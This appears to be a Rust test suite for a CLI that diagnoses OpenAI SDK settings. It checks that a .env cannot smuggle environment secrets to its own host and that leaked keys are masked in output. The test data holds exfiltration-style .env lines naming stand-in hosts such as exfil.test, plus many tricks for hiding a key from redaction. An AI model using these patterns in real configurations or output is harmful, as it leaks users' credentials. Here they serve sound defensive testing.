//! Variants of the third review's rules that broke after the first fixes,
//! found by attacking the release binary again: each test is a class, with
//! several members of it, and names the rule it holds.

use super::*;

/// R1: a `.env` line that expands a variable of the environment holds the
/// environment's secret, whatever file it stands in: it is no credential of
/// the `.env`'s own, and goes nowhere the `.env` alone names.
#[test]
fn r1_a_dotenv_that_expands_the_environment_sends_nothing_to_its_host() {
    let server = Server::start();
    server.answer(200, "200_models.json");
    let base = format!("OPENAI_BASE_URL={}\n", server.base_url());
    let langsmith = "lsv2_pt_0123456789abcdef0123456789";
    let corp = "corp-token-0123456789abcdefghij";
    // (the world, the .env, the environment, the flags)
    type Expanding<'a> = (&'a str, String, Vec<(&'a str, &'a str)>, Vec<&'a str>);
    let worlds: Vec<Expanding> = vec![
        (
            "a custom header that expands the exported key, tested with --source dotenv",
            format!("OPENAI_API_KEY={DUMMY}\n{base}OPENAI_CUSTOM_HEADERS=\"X-Leak: ${{OPENAI_API_KEY}}\"\n"),
            vec![("OPENAI_API_KEY", KEY)],
            vec!["--source", "dotenv"],
        ),
        (
            "the .env's key is another variable of the environment, braced",
            format!("OPENAI_API_KEY=${{LANGSMITH_API_KEY}}\n{base}"),
            vec![("LANGSMITH_API_KEY", langsmith)],
            vec![],
        ),
        (
            "the .env's key is another variable of the environment, bare",
            format!("OPENAI_API_KEY=$MYKEY\n{base}"),
            vec![("MYKEY", KEY)],
            vec![],
        ),
        (
            "an Authorization override that expands a token, through an earlier line",
            format!(
                "OPENAI_API_KEY={DUMMY}\n{base}TOKEN=\"${{CORP_TOKEN}}\"\nOPENAI_CUSTOM_HEADERS=\"Authorization: Bearer ${{TOKEN}}\"\n"
            ),
            vec![("CORP_TOKEN", corp)],
            vec![],
        ),
    ];
    for (world, dotenv, env, flags) in worlds {
        let mut doctor = Doctor::new().file(".env", &dotenv).secret(DUMMY);
        for (name, value) in &env {
            doctor = doctor.env(name, value).secret(value);
        }
        let run = doctor.args(&flags).json().run();
        assert_eq!(run.diagnosis(), "untrusted_base_url", "{world}: {}", run.stdout);
        assert!(
            run.checklist()
                .contains("expanding a variable of the environment"),
            "{world}: {}",
            run.checklist()
        );
        assert_eq!(
            server.requests().len(),
            0,
            "{world}: something reached the .env's host"
        );
    }
    // A .env that expands only its own lines still sends its own key there.
    let own =
        format!("PART=0123456789\nOPENAI_API_KEY={DUMMY}\n{base}OPENAI_CUSTOM_HEADERS=\"X-Team: $PART\"\n");
    let run = Doctor::new().file(".env", &own).secret(DUMMY).json().run();
    assert_eq!(run.diagnosis(), "ok", "{}", run.stdout);
    assert_eq!(server.requests().len(), 1);
}

/// R4: context and shape, beyond the first list: a credential's name however
/// it is spelt (bare `token=`, `AccountKey=`), any Authorization scheme, and
/// standard base64 with `+` and `/`.
#[test]
fn r4_every_credential_name_scheme_and_base64_is_masked() {
    let short = "Zq9Xw8VuT7sR6qP5oN4m";
    let storage = "Ab3dEfGh1jKlMn0pQrStUvWxYz+a1c2e3g4i5k6m/o7q8s9u0w1y2A3C4E5G6I7K8M9O0Q1S2U3W4Y5a6c7e8==";
    let head = "openai.AuthenticationError: Error code: 401 - ";
    for text in [
        format!("{head}token={short}"),
        format!("{head}SIG={short}"),
        format!("{head}{{\"token\": \"{short}\"}}"),
        format!("{head}refresh-token: {short}"),
        format!(
            "{head}DefaultEndpointsProtocol=https;AccountName=x;AccountKey={storage};EndpointSuffix=core"
        ),
        format!("{head}the secret was {storage} in the log"),
        format!("{head}Authorization: Token {short}"),
        format!("{head}authorization=ApiKey {short}"),
    ] {
        for run in explain_hides(&text, &[short, storage, &storage[26..60]]) {
            assert!(!run.stdout.contains(&storage[41..70]), "{text}: {}", run.stdout);
        }
    }
    // Error codes and token counts are no secrets, and stay readable.
    let runs = explain_hides(
        "openai.RateLimitError: Error code: 429 - {'error': {'message': 'You exceeded your current quota', 'type': 'insufficient_quota', 'code': 'insufficient_quota'}} max_tokens=4096",
        &[],
    );
    assert!(
        runs[0].stdout.contains("\"quota_exceeded\""),
        "{}",
        runs[0].stdout
    );
}

/// R5: whatever hides a break inside a key — an invisible character that is
/// no format character, a format character percent-encoded, named or
/// written as bytes, literals of mixed quotes joined, a terminal's colour.
#[test]
fn r5_every_way_of_hiding_a_break_is_read_through() {
    let (head, tail) = ADMIN.split_at(ADMIN.len() - 26);
    for glue in [
        "\u{34f}",
        "\u{fe0f}",
        "\u{3164}",
        "\u{2800}",
        "%C2%AD",
        "%E2%80%8B",
        "&ZeroWidthSpace;",
        "&#x200b",
        "&#173",
        "\\N{SOFT HYPHEN}",
        "\\N{zero width joiner}",
        "\\xc2\\xad",
        "\\xe2\\x80\\x8b",
        "' \"",
        "' f'",
        "\" + rb\"",
        "\\e[0m",
        "\u{8}",
    ] {
        let text = format!(
            "openai.AuthenticationError: Error code: 401 - {{'error': {{'message': 'Incorrect API key provided: {head}{glue}{tail}', 'code': 'invalid_api_key'}}}}"
        );
        for run in explain_hides(&text, &[tail, &tail[4..20]]) {
            assert!(!run.stdout.contains(&tail[..14]), "{glue:?}: {}", run.stdout);
        }
    }
}

/// R10: the cost of a setting follows its size whatever it holds: a value
/// that repeats one character (the worst case for building the matcher that
/// hides it) costs what a random one does.
#[test]
fn r10_a_repetitive_setting_costs_what_a_random_one_does() {
    for (name, value) in [
        ("OPENAI_CUSTOM_HEADERS", format!("X-A: {}", "a".repeat(15_990))),
        ("OPENAI_ADMIN_KEY", "b".repeat(15_000)),
        (
            "OPENAI_CUSTOM_HEADERS",
            format!("X-A: {}", "Zq9Xw8Vu".repeat(1_990)),
        ),
    ] {
        let started = Instant::now();
        Doctor::new()
            .key(KEY)
            .env(name, &value)
            .args(&["--offline", "--format", "json"])
            .run();
        common::assert_bounded(started.elapsed(), common::OFFLINE_BOUND, name);
    }
}

/// R12: a credential in a query is masked however the URL reaches the
/// report: an Azure endpoint that `/openai` is appended to, a relative
/// `Location`, a `;` between parameters, names spelt any way.
#[test]
fn r12_every_query_credential_is_masked_however_the_url_arrives() {
    let secret = "QSECRETabcdefGHIJ0123456789";
    // Azure appends `/openai` to the endpoint as given, query and all, and
    // the server echoes what it received.
    let echo = Server::start();
    echo.respond_any(
        "/",
        json_response(
            401,
            &format!(
                "{{\"error\": {{\"code\": \"401\", \"message\": \"Access denied due to invalid subscription key {secret}/openai.\"}}}}"
            ),
        ),
    );
    for format in FORMATS {
        let doctor = common::azure(&echo)
            .env(
                "AZURE_OPENAI_ENDPOINT",
                &format!("{}/?subscription-key={secret}", echo.mock.uri()),
            )
            .secret(secret)
            .args(&["-v"]);
        in_actions(doctor, format).run();
    }
    // Relative and scheme-relative redirects, with credentials in the query.
    for location in [
        format!("/v1/x?sig={secret}"),
        format!("//127.0.0.1:1/x?token={secret}&sig={secret}"),
        format!("/x?a=1;sig={secret}"),
    ] {
        let redirect = Server::start();
        redirect.respond(
            "/v1/models",
            ResponseTemplate::new(302).insert_header("location", location.as_str()),
        );
        for format in FORMATS {
            let doctor = Doctor::new()
                .key(KEY)
                .secret(secret)
                .server(&redirect)
                .args(&["-v"]);
            in_actions(doctor, format).run();
        }
    }
    // Names of every spelling, and `;` as a separator, in a base URL.
    for query in [
        format!("x=1;sig={secret}"),
        format!("x-api-key={secret}"),
        format!("subscription_key={secret}"),
        format!("access-token={secret}"),
        format!("X-Amz-Signature={secret}"),
        format!("auth={secret}"),
        format!("api+key={secret}"),
    ] {
        for format in FORMATS {
            let doctor = Doctor::new().key(KEY).secret(secret).args(&[
                "--offline",
                "--base-url",
                &format!("https://gw.example/v1?{query}"),
            ]);
            in_actions(doctor, format).run();
        }
    }
}

/// R8: when OPENAI_CUSTOM_HEADERS names a header twice, the SDK keeps the
/// last (it parses into a dict), and so does the request and its report.
#[test]
fn r8_a_header_given_twice_is_sent_as_the_sdk_sends_it() {
    let server = Server::start();
    server.answer(200, "200_models.json");
    let first = "sk-proj-FirstOverride0123456789T3BlbkFJabcdefghijklmnopqrst";
    let last = "sk-proj-LastOverride01234567890T3BlbkFJabcdefghijklmnopwxyz";
    let run = Doctor::new()
        .key(KEY)
        .secret(first)
        .secret(last)
        .env(
            "OPENAI_CUSTOM_HEADERS",
            &format!("Authorization: Bearer {first}\nAuthorization: Bearer {last}"),
        )
        .server(&server)
        .json()
        .run();
    let sent = server.requests();
    assert_eq!(
        sent[0].headers.get("authorization").unwrap(),
        format!("Bearer {last}").as_str()
    );
    assert_eq!(run.json()["credential"]["masked"], "sk-proj-…wxyz");
}

/// R1, second round: the organization and project headers are placed in the
/// request too, so a `.env` cannot fill them with the environment's secrets
/// for its host; and a fed line stays fed when a later one repeats its name
/// (dotenvy may reject the later line and keep the fed value).
#[test]
fn r1_every_header_and_every_repeat_keeps_its_origin() {
    let server = Server::start();
    server.answer(200, "200_models.json");
    let base = format!("OPENAI_BASE_URL={}\n", server.base_url());
    let worlds: Vec<(&str, String)> = vec![
        (
            "an organization that expands the environment",
            format!("OPENAI_API_KEY={DUMMY}\n{base}OPENAI_ORG_ID=${{MYKEY}}\n"),
        ),
        (
            "a project that expands the environment",
            format!("OPENAI_API_KEY={DUMMY}\n{base}OPENAI_PROJECT_ID=$MYKEY\n"),
        ),
        (
            "a fed key repeated by a line dotenvy rejects",
            format!("OPENAI_API_KEY=${{MYKEY}}\nOPENAI_API_KEY=x y\n{base}"),
        ),
        (
            "fed custom headers repeated",
            format!(
                "OPENAI_API_KEY={DUMMY}\n{base}OPENAI_CUSTOM_HEADERS=\"X-Leak: ${{MYKEY}}\"\nOPENAI_CUSTOM_HEADERS=a b\n"
            ),
        ),
    ];
    for (world, dotenv) in worlds {
        for client in ["python", "node", "langchain"] {
            let run = Doctor::new()
                .file(".env", &dotenv)
                .secret(DUMMY)
                .env("MYKEY", KEY)
                .secret(KEY)
                .args(&["--client", client])
                .json()
                .run();
            assert_eq!(
                run.diagnosis(),
                "untrusted_base_url",
                "{world}, {client}: {}",
                run.stdout
            );
            assert_eq!(
                server.requests().len(),
                0,
                "{world}, {client}: something reached the .env's host"
            );
        }
    }
    // An organization from the environment is not the .env's either.
    let run = Doctor::new()
        .file(".env", &format!("OPENAI_API_KEY={DUMMY}\n{base}"))
        .secret(DUMMY)
        .env("OPENAI_ORG_ID", "org-FromTheEnvironment")
        .json()
        .run();
    assert_eq!(run.diagnosis(), "untrusted_base_url", "{}", run.stdout);
    assert!(
        run.checklist()
            .contains("OpenAI-Organization header from OPENAI_ORG_ID in the environment"),
        "{}",
        run.checklist()
    );
}

/// R4, second round: credential names beyond the first list, a command
/// line's flags, what the API says it was given, a key split by a space,
/// a key's tail alone, hexadecimal cut into groups.
#[test]
fn r4_more_names_flags_and_shapes_are_masked() {
    let secret = "hunter2hunter2xyz9Q";
    let head = "openai.AuthenticationError: Error code: 401 - ";
    for text in [
        format!("{head}pwd={secret}"),
        format!("{head}{{\"credentials\": \"{secret}\"}}"),
        format!("{head}secrets={secret}"),
        format!("{head}{{\"api_keys\": [\"{secret}\"]}}"),
        format!("{head}Cookie: session={secret}"),
        format!("{head}api-key\u{ff1a} {secret}"),
        format!("{head}$ curl https://gw.example/v1/models --api-key {secret} -s"),
        format!("{head}$ curl -u alice:{secret} https://gw.example/v1/models"),
        format!(
            "{head}{{'error': {{'message': 'Incorrect API key provided: corp-gw-{secret}.', 'code': 'invalid_api_key'}}}}"
        ),
    ] {
        explain_hides(&text, &[secret]);
    }
    let key = "sk-admin-Qw7Er5Ty3Ui1Op9As8Df6Gh4Jk2Lz0Xc7Vb5Nm3Qa1Ws9";
    let split = format!("{} {} {}", &key[..24], &key[24..49], &key[49..]);
    let tail = &key[key.len() - 28..];
    let grouped = "01234567-89abcdef-01234567-89abcdef";
    for (text, hidden) in [
        (format!("{head}Incorrect API key provided: {split}"), &key[24..49]),
        (format!("{head}the key ended {tail} in the log"), tail),
        (format!("{head}signature {grouped} rejected"), grouped),
    ] {
        explain_hides(&text, &[hidden]);
    }
}

/// R10, second round: a `.env` of bad lines is read in time linear in its
/// size (each bad line was looked for among all the lines after it).
#[test]
fn r10_a_dotenv_of_bad_lines_costs_what_its_size_says() {
    for line in ["A=\\q\n", "A=${\n", "A=x y\n"] {
        let text = line.repeat(1024 * 1024 / line.len() - 1);
        let started = Instant::now();
        let run = Doctor::new()
            .key(KEY)
            .file(".env", &text)
            .args(&["--offline", "--format", "json"])
            .run();
        common::assert_bounded(started.elapsed(), common::OFFLINE_BOUND, line.trim());
        assert!(
            run.stdout.contains("lines that do not parse: 1, 2, 3"),
            "{line}: {}",
            run.stdout
        );
    }
}

/// R12, second round: doctor masks what a server sends back as explain
/// masks a pasted text, so that a key echoed changed — percent-encoded, cut,
/// split by an invisible character or a space, in an HTML entity, in a
/// redirect's query — does not show; and credential parameters by more names.
#[test]
fn r12_a_key_echoed_changed_and_more_parameter_names_are_masked() {
    let key = "sk-proj-Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2Yz3T3BlbkFJAb1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2Yz3aB4cD5eF6gH9";
    for echoed in [
        key.replace('-', "%2D"),
        key.replace('-', "%2d"),
        key.replace('-', "&#45;"),
        format!("{}\\u00ad{}", &key[..40], &key[40..]),
        format!("{}\\u200b{}", &key[..40], &key[40..]),
        format!("{} {}", &key[..40], &key[40..]),
        key[..40].to_string(),
        key[key.len() - 40..].to_string(),
    ] {
        let server = Server::start();
        server.respond(
            "/v1/models",
            json_response(
                401,
                &format!("{{\"error\": {{\"message\": \"Incorrect API key provided: {echoed}\", \"code\": \"invalid_api_key\"}}}}"),
            ),
        );
        for format in FORMATS {
            in_actions(
                Doctor::new()
                    .key(key)
                    .secret(&key[12..36])
                    .secret(&key[60..84])
                    .server(&server)
                    .args(&["-v"]),
                format,
            )
            .run();
        }
    }
    let redirect = Server::start();
    redirect.respond(
        "/v1/models",
        ResponseTemplate::new(302).insert_header(
            "location",
            format!("https://login.example/?next={}", key.replace('-', "%2D")).as_str(),
        ),
    );
    for format in FORMATS {
        in_actions(
            Doctor::new()
                .key(key)
                .secret(&key[12..36])
                .server(&redirect)
                .args(&["-v"]),
            format,
        )
        .run();
    }
    let secret = "Zs3cretZs3cretZs3cret";
    for query in [
        format!("authorization={secret}"),
        format!("bearer={secret}"),
        format!("jwt={secret}"),
        format!("pass={secret}"),
        format!("session={secret}"),
        format!("keys={secret}"),
        format!("tokens={secret}"),
        format!("\u{ff4b}\u{ff45}\u{ff59}={secret}"),
        format!("x=1?key={secret}"),
    ] {
        for format in FORMATS {
            let doctor = Doctor::new().key(KEY).secret(secret).args(&[
                "--offline",
                "--base-url",
                &format!("https://gw.example/v1?{query}"),
            ]);
            in_actions(doctor, format).run();
        }
    }
    for format in FORMATS {
        let gateway = Doctor::new()
            .key(KEY)
            .secret(secret)
            .env(
                "LANGSMITH_GATEWAY",
                &format!("https://gw.example/?authorization={secret}"),
            )
            .args(&["--offline", "--client", "langchain"]);
        in_actions(gateway, format).run();
    }
}

/// R1, third round: the URL is placed in the request too. A `.env` that
/// names the host may not fill its path, query or host with the
/// environment's values, nor may an API version from elsewhere go there.
#[test]
fn r1_the_url_itself_carries_only_what_the_dotenv_holds() {
    let server = Server::start();
    server.answer(200, "200_models.json");
    server.respond_any("/", json_response(200, &common::fixture("200_models.json")));
    let base = server.base_url();
    let root = server.mock.uri();
    let own = format!("OPENAI_API_KEY={DUMMY}\n");
    let azure_key = format!("AZURE_OPENAI_API_KEY={}\n", common::AZURE_KEY);
    // (the world, the .env, the flags, the environment)
    type UrlWorld<'a> = (&'a str, String, Vec<&'a str>, Vec<(&'a str, &'a str)>);
    let worlds: Vec<UrlWorld> = vec![
        (
            "the key in the path",
            format!("{own}OPENAI_BASE_URL={root}/${{MYKEY}}/v1\n"),
            vec!["--source", "dotenv"],
            vec![],
        ),
        (
            "the key in the query",
            format!("{own}OPENAI_BASE_URL={base}?x=${{MYKEY}}\n"),
            vec![],
            vec![],
        ),
        (
            "langchain's base",
            format!("{own}OPENAI_API_BASE={root}/${{MYKEY}}\n"),
            vec!["--client", "langchain"],
            vec![],
        ),
        (
            "LangSmith's gateway",
            format!("{own}LANGSMITH_GATEWAY={root}/$MYKEY\nLANGSMITH_API_KEY=lsv2_pt_0123456789abcdef\n"),
            vec!["--client", "langchain"],
            vec![],
        ),
        (
            "an Azure endpoint",
            format!("{azure_key}AZURE_OPENAI_ENDPOINT={root}/${{MYKEY}}\nOPENAI_API_VERSION=2024-10-21\n"),
            vec!["--client", "azure"],
            vec![],
        ),
        (
            "an Azure API version",
            format!("{azure_key}AZURE_OPENAI_ENDPOINT={root}\nOPENAI_API_VERSION=${{MYKEY}}\n"),
            vec!["--client", "azure"],
            vec![],
        ),
        (
            "an exported API version",
            format!("{azure_key}AZURE_OPENAI_ENDPOINT={root}\n"),
            vec!["--client", "azure"],
            vec![("OPENAI_API_VERSION", "2024-10-21")],
        ),
    ];
    for (world, dotenv, flags, env) in worlds {
        let mut doctor = Doctor::new()
            .file(".env", &dotenv)
            .secret(DUMMY)
            .secret(common::AZURE_KEY)
            .env("MYKEY", KEY)
            .secret(KEY);
        for (name, value) in env {
            doctor = doctor.env(name, value);
        }
        let run = doctor.args(&flags).json().run();
        assert_eq!(run.diagnosis(), "untrusted_base_url", "{world}: {}", run.stdout);
        assert!(
            run.checklist().contains("the URL's"),
            "{world}: {}",
            run.checklist()
        );
        assert_eq!(
            server.requests().len(),
            0,
            "{world}: something reached the .env's host"
        );
    }
}

/// R12, third round: a secret is found however a URL shows it once parsed —
/// a host lower-cased, a path or query percent-encoded — and however a
/// server cuts the key it echoes.
#[test]
fn r12_a_secret_is_hidden_as_urls_show_it_and_in_pieces() {
    let upper = "9F2C4E6A8B0D1F3E5A7C9B1D3F5E7A9C0B2D4F6E";
    let spaced = "Zq9Xw8VuT7sR 6qP5oN4mL3kJ2iH1";
    for (dotenv, secret) in [
        (
            format!("OPENAI_BASE_URL=https://${{TOK}}.exfil.test/v1\nOPENAI_API_KEY={DUMMY}\n"),
            upper,
        ),
        (
            format!("OPENAI_BASE_URL=https://gw.test/${{TOK}}/v1\nOPENAI_API_KEY={DUMMY}\n"),
            spaced,
        ),
        (
            format!("OPENAI_BASE_URL=https://gw.test/v1?x=${{TOK}}\nOPENAI_API_KEY={DUMMY}\n"),
            spaced,
        ),
    ] {
        for format in FORMATS {
            let doctor = Doctor::new()
                .file(".env", &dotenv)
                .secret(DUMMY)
                .env("TOK", secret)
                .secret(secret)
                .secret(&secret.to_ascii_lowercase())
                .secret(&secret.replace(' ', "%20"))
                .args(&["--offline"]);
            in_actions(doctor, format).run();
        }
    }
    let key = "sk-proj-Qw2Zx9Lm4NpNp8Tv3Hy6Jb1Cd5Fg0Ws2Ea7Rt4Yu1Io9T3BlbkFJXq8Wn3Ze6Ty1Ui4Op7As2Df5Gh8Jk0Lz3Xc6Vb9Nm1Qa4Ws";
    let body = &key["sk-proj-".len()..];
    let pieces = |size: usize, separator: &str| {
        body.as_bytes()
            .chunks(size)
            .map(|c| std::str::from_utf8(c).unwrap())
            .collect::<Vec<_>>()
            .join(separator)
    };
    for echoed in [
        format!("sk-proj-{}", pieces(20, "\\n")),
        format!("sk-proj-{}", pieces(11, " ")),
        format!("['sk-proj-{}']", pieces(16, "', '")),
    ] {
        let server = Server::start();
        server.respond(
            "/v1/models",
            json_response(
                401,
                &format!("{{\"error\": {{\"message\": \"Incorrect API key provided: {echoed}\", \"code\": \"invalid_api_key\"}}}}"),
            ),
        );
        for format in FORMATS {
            let mut doctor = Doctor::new().key(key).server(&server).args(&["-v"]);
            for piece in body.as_bytes().chunks(11).filter(|c| c.len() == 11) {
                doctor = doctor.secret(std::str::from_utf8(piece).unwrap());
            }
            in_actions(doctor, format).run();
        }
    }
}

/// R5, third round: explain reads a key through the seams of its pieces —
/// spaces, lines, a list of strings — and a hex dump in groups.
#[test]
fn r5_a_key_in_pieces_is_masked_whole() {
    let key = "sk-admin-Zq9Xw8Vu7Ts6Rq5Po4Nm3Lk2Ji1Hg0Fe9Dc8Ba7Zy6Xw5Vu4";
    let body = &key["sk-admin-".len()..];
    let pieces = |size: usize, separator: &str| {
        body.as_bytes()
            .chunks(size)
            .map(|c| std::str::from_utf8(c).unwrap())
            .collect::<Vec<_>>()
            .join(separator)
    };
    let hex: Vec<String> = key
        .as_bytes()
        .chunks(4)
        .map(|c| c.iter().map(|b| format!("{b:02x}")).collect())
        .collect();
    for pasted in [
        format!("sk-admin-{}", pieces(12, " ")),
        format!("sk-admin-{}", pieces(20, "\\n")),
        format!("['sk-admin-{}']", pieces(14, "', '")),
        hex.join(" "),
    ] {
        let text = format!(
            "openai.AuthenticationError: Error code: 401 - {{'error': {{'message': 'Incorrect API key provided: {pasted}', 'code': 'invalid_api_key'}}}}"
        );
        let hidden: Vec<&str> = body
            .as_bytes()
            .chunks(12)
            .filter(|c| c.len() == 12)
            .map(|c| std::str::from_utf8(c).unwrap())
            .collect();
        let mut all = hidden.clone();
        let hex_middle = hex[3..7].join(" ");
        all.push(&hex_middle);
        explain_hides(&text, &all);
    }
}

/// R1, fourth round: `--model` goes into the URL, so it too is held back
/// from a host only a `.env` names.
#[test]
fn r1_a_model_from_the_command_line_is_held_back_too() {
    let server = Server::start();
    server.respond_any("/", json_response(200, &common::fixture("200_model.json")));
    let run = Doctor::new()
        .file(
            ".env",
            &format!("OPENAI_API_KEY={DUMMY}\nOPENAI_BASE_URL={}\n", server.base_url()),
        )
        .secret(DUMMY)
        .args(&["--model", "gpt-heldback-model"])
        .json()
        .run();
    assert_eq!(run.diagnosis(), "untrusted_base_url", "{}", run.stdout);
    assert!(run.checklist().contains("--model"), "{}", run.checklist());
    assert_eq!(server.requests().len(), 0);
}

/// R12, fourth round: a known secret is found however finely a server cuts
/// it — groups of a few characters between any white space, control
/// characters or list seams, Markdown emphasis or HTML tags inside — and
/// also when it is short (a proxy password) or long (an Entra ID token).
#[test]
fn r12_a_known_secret_is_found_however_it_is_cut() {
    let key = "sk-proj-ENVKEYabcdefghijklmnopqrstuvwxyzT3BlbkFJ0123456789ABCDEFGHIJ";
    let body = &key["sk-proj-".len()..];
    let groups = |size: usize, separator: &str| {
        key.as_bytes()
            .chunks(size)
            .map(|c| std::str::from_utf8(c).unwrap())
            .collect::<Vec<_>>()
            .join(separator)
    };
    let mut echoes = Vec::new();
    for separator in [
        " ", "\\t", "  ", "\u{a0}", "\u{2003}", "\u{3000}", "\u{1680}", "\\u000b", "\\u001f",
    ] {
        echoes.push(groups(4, separator));
    }
    echoes.push(format!("['{}']", groups(4, "', '")));
    echoes.push(groups(1, " "));
    echoes.push(format!("{}**{}**{}", &key[..20], &key[20..40], &key[40..]));
    echoes.push(format!("{}<b>{}</b>{}", &key[..20], &key[20..40], &key[40..]));
    for echoed in echoes {
        let server = Server::start();
        let body_json = serde_json::json!({"error": {"message": format!("Incorrect key {echoed}"), "code": "invalid_api_key"}});
        server.respond("/v1/models", json_response(401, &body_json.to_string()));
        for format in FORMATS {
            let mut doctor = Doctor::new().key(key).server(&server).args(&["-v"]);
            for piece in body.as_bytes().chunks(12).filter(|c| c.len() == 12) {
                doctor = doctor.secret(std::str::from_utf8(piece).unwrap());
            }
            in_actions(doctor, format).run();
        }
    }
    // A short secret echoed cut, and a long token's fragment.
    let short = "qwertyuiopasdfghjkl";
    let token = format!(
        "eyJ{}",
        "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bD1fH3jL5nP7rT9vX1zB3dF5hJ7lN9pR1tV3xZ5".repeat(24)
    );
    for (name, value, echo) in [
        (
            "OPENAI_CUSTOM_HEADERS",
            format!("X-Portkey-Api-Key: {short}"),
            short[..14].to_string(),
        ),
        (
            "OPENAI_CUSTOM_HEADERS",
            format!("X-Token: {token}"),
            token[700..720].to_string(),
        ),
    ] {
        let server = Server::start();
        server.respond(
            "/v1/models",
            json_response(401, &format!("{{\"error\": {{\"message\": \"Gateway refused credential {echo} (truncated)\", \"code\": \"invalid_api_key\"}}}}")),
        );
        for format in FORMATS {
            let doctor = Doctor::new()
                .key(KEY)
                .env(name, &value)
                .secret(&echo)
                .server(&server)
                .args(&["-v"]);
            in_actions(doctor, format).run();
        }
    }
}

/// R5, fourth round: explain reads a key through Markdown emphasis and HTML
/// tags, in pieces of any size with spaces or list seams between them, and
/// knows long random runs of one case, or with `/`.
#[test]
fn r5_a_key_cut_finely_or_marked_up_is_masked() {
    let key = "sk-admin-Zq9Xw8Vu7Ts6Rq5Po4Nm3Lk2Ji1Hg0Fe9Dc8Ba7Zy6Xw5Vu4";
    let groups = |size: usize, separator: &str| {
        key.as_bytes()
            .chunks(size)
            .map(|c| std::str::from_utf8(c).unwrap())
            .collect::<Vec<_>>()
            .join(separator)
    };
    let wrap = |pasted: String| {
        format!(
            "openai.AuthenticationError: Error code: 401 - {{'error': {{'message': 'Incorrect API key provided: {pasted}', 'code': 'invalid_api_key'}}}}"
        )
    };
    for pasted in [
        format!("{}**{}**{}", &key[..17], &key[17..28], &key[28..]),
        format!(
            "{}<b>{}</b>{}<i>{}</i>",
            &key[..17],
            &key[17..28],
            &key[28..40],
            &key[40..]
        ),
        groups(1, " "),
        format!("['{}']", groups(1, "', '")),
        format!("['{}']", groups(4, "', '")),
        groups(3, " "),
        groups(6, ", "),
    ] {
        explain_hides(&wrap(pasted), &[&key[17..29], &key[30..42], &key[42..54]]);
    }
    for (pasted, secret) in [
        (
            "aws_secret wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
            "K7MDENG/bPxRfiCYEXAMPLE",
        ),
        (
            "gateway key k7x2m9p4q8r1s5t3v6w0y2z4a8b1c3d5e7",
            "m9p4q8r1s5t3v6w0y2z4",
        ),
        (
            "token MFRGGZDFMZTWQ2LKNNWG23TPOBYXE43UOV3HO6DZPI",
            "GGZDFMZTWQ2LKNNWG23T",
        ),
    ] {
        explain_hides(&format!("Error code: 401 - Unauthorized {pasted}"), &[secret]);
    }
}
